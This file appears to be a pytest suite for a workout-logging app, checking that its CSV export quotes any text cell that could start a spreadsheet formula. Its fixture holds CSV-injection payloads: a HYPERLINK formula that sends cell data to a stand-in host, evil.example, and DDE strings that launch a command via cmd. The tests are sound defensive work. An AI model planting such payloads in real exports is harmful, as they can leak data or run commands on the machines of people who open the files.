"""Issue 15 point 7: no CSV cell can start a spreadsheet formula, whatever its column.

Ids and the source column come from an imported JSON file as freely as
titles and notes do, so every text cell is neutralised at the writer,
while numbers (a negative load) stay numbers.
"""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

import pytest

from app.logbook.entries import SetEntry
from app.storage.store import Store
from app.usecases.export import CSV_COLUMNS, csv_cell, export_csv

HOSTILE = {
    "session_uid": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "set_uid": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "=cmd|' /C calc'!A0",
}


def _export(store: Store, tmp_path: Path) -> dict[str, str]:
    target = tmp_path / "log.csv"
    export_csv(store.reader, target)
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1
    return rows[0]


def _plant(store: Store, column_values: dict[str, str]) -> None:
    # What a crafted JSON import can store: the ids and source are kept as given.
    connection = sqlite3.connect(store.db_path)
    try:
        connection.execute("UPDATE workout_session SET uid = ?, source = ?",
                           (column_values["session_uid"], column_values["source"]))
        connection.execute("UPDATE logged_set SET uid = ?", (column_values["set_uid"],))
        connection.commit()
    finally:
        connection.close()


def test_ids_and_source_cannot_start_a_formula(store: Store, tmp_path: Path) -> None:
    session = store.start_session(title="Gym")
    store.log_set(session.id, SetEntry("nordic-hamstring-curl", 1, reps=4, load=-10))
    store.end_session(session.id)
    _plant(store, HOSTILE)
    row = _export(store, tmp_path)
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value, column
    assert row["load_kg"] == "-10"  # a number, not text: left alone


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_text_column_is_neutralised(store: Store, tmp_path: Path, start: str) -> None:
    """Whatever text column a value lands in, a formula start is quoted."""
    session = store.start_session(title=start + "title")
    store.log_set(session.id, SetEntry("nordic-hamstring-curl", 1, reps=4, notes=start + "note"))
    store.end_session(session.id)
    _plant(store, {c: start + c for c in HOSTILE})
    row = _export(store, tmp_path)
    for column in (*HOSTILE, "session_title", "notes"):
        assert row[column].startswith("'" + start), column
    assert list(row) == [name for name, _ in CSV_COLUMNS]
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


@pytest.mark.parametrize(("value", "expected"), [
    (-10, "-10"), (-2.5, "-2.5"), (60.0, "60"), (1234567, "1234567"), (None, ""),
    ("-2.5", "'-2.5"), ("=1+2", "'=1+2"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", ""),
])
def test_one_rule_for_every_cell(value: int | float | str | None, expected: str) -> None:
    """Text is quoted when it starts like a formula, even when it reads like a
    number; numbers the app formats itself are written as they are."""
    assert csv_cell(value) == expected
